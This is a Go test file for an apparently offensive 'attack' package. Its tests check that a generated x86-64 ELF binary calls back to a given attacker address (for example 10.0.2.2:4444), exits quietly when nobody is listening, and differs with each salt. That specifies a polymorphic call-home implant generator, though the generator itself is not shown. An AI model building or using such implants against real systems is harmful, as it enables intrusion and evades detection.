package attack

import (
	"bytes"
	"context"
	"debug/elf"
	"errors"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"testing"
	"time"
)

func TestProgramCallsOut(t *testing.T) {
	if runtime.GOOS != "linux" || runtime.GOARCH != "amd64" {
		t.Skip("needs x86-64 Linux")
	}
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	b, err := Program(l.Addr().(*net.TCPAddr).AddrPort(), []byte("salt"))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "program")
	if err := os.WriteFile(path, b, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(ctx, path)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if !awaitCall(ctx, l) {
		t.Errorf("it did not call and say %q", greeting)
	}
	if err := cmd.Wait(); err != nil {
		t.Errorf("the program ended: %v", errors.Join(err, ctx.Err()))
	}
}

func TestProgramEndsWithoutAttacker(t *testing.T) {
	b, err := Program(netip.MustParseAddrPort("127.0.0.1:1"), nil)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "program")
	if err := os.WriteFile(path, b, 0o755); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	var exit *exec.ExitError
	if err := exec.CommandContext(ctx, path).Run(); errors.As(err, &exit) && exit.ExitCode() == -1 {
		t.Errorf("the program was killed: %v", errors.Join(err, ctx.Err()))
	}
}

func TestProgramIsNew(t *testing.T) {
	to := netip.MustParseAddrPort("10.0.2.2:4444")
	a, err := Program(to, []byte("a"))
	if err != nil {
		t.Fatal(err)
	}
	b, err := Program(to, []byte("b"))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a, b) {
		t.Error("another salt, the same program")
	}
	f, err := elf.NewFile(bytes.NewReader(a))
	if err != nil {
		t.Fatal(err)
	}
	if f.Machine != elf.EM_X86_64 || f.Progs[0].Filesz != uint64(len(a)) {
		t.Errorf("machine %v, %d bytes loaded of %d", f.Machine, f.Progs[0].Filesz, len(a))
	}
	if _, err := Program(netip.MustParseAddrPort("[::1]:1"), nil); err == nil {
		t.Error("an IPv6 address was taken")
	}
}
